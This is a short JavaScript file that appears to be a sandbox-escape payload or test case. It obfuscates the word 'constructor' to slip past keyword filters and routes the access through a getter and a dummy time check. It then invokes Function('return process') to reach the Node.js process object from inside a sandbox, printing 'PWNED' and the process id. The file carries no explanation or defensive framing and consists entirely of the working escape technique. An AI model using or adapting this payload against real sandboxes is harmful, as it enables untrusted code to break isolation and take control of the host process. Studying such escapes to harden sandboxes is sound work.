'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
class K { get a() { return t; } }
const o = Date.now() > 1 ? new K().a : {};
console.log('PWNED', o.go(fn)('return process')().pid);
